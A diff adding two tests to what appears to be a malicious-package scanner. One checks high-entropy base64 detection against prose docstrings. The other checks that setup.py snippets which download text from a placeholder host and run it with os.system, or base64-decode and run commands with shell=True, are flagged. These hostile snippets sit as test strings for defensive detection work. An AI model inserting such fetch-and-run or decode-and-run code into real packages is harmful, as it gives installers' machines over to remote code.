@@ -99,3 +99,42 @@ def test_method_named_like_a_package_function_is_a_local_call():
     assert "hot|c:_" in tokens and not [t for t in tokens if "fetch_conf" in t]
     renamed = rename_functions(PKG)
     assert sorted(analyze(renamed).tokens) == sorted(tokens)
+
+
+def test_prose_is_not_a_high_entropy_literal_but_packed_words_are():
+    """A docstring stripped of spaces has the entropy of packed data; prose is exempt,
+    base64 cut into space-separated words or 76-character lines is not."""
+    import base64
+    import random
+
+    from detector.code.decode import looks_like_prose
+
+    prose = ("Return the weighted 95th-percentile latency (ms) of a job's runs, grouped by "
+             "region: `jobs` maps IDs to Run objects; raises KeyError if a run is missing.")
+    assert looks_like_prose(prose)
+    blob = base64.b64encode(random.Random(0).randbytes(900)).decode()
+    for sep, width in ((" ", 8), (" ", 4), ("\n", 76)):
+        packed = sep.join(blob[i:i + width] for i in range(0, len(blob), width))
+        assert not looks_like_prose(packed)
+        found = analyze({"setup.py": f"x = '''{packed}'''\n"}).findings
+        assert any(f.rule == "high-entropy-literal" for f in found), (sep, width)
+    doc = analyze({"m/__init__.py": f"def f():\n    '''{prose * 3}'''\n"}).findings
+    assert not any(f.rule == "high-entropy-literal" for f in doc)
+
+
+def test_shell_command_decoded_or_downloaded_at_run_time_is_a_payload_run():
+    """`os.system(b64decode(resp.text).decode())` runs a decoded payload as `exec` would."""
+    def rules(src: str) -> set[str]:
+        return {f.rule for f in analyze({"setup.py": src}).findings}
+
+    assert "decode-exec" in rules(
+        "import os, base64, requests\nr = requests.get('https://example.invalid/x')\n"
+        "os.system(base64.b64decode(r.text).decode('utf-8'))\n")
+    assert "decode-exec" in rules(
+        "import subprocess, base64\nsubprocess.Popen(base64.b64decode(c), shell=True)\n")
+    assert "remote-code-exec" in rules(
+        "import os, requests\nos.system(requests.get('https://example.invalid/x').text)\n")
+    benign = rules("import os, subprocess\ncmd = 'echo ' + name\nos.system(cmd)\n"
+                   "os.system('git describe'.encode().decode())\n"
+                   "out = subprocess.run(['git', 'log'], capture_output=True).stdout.decode()\n")
+    assert not benign & {"decode-exec", "remote-code-exec"}
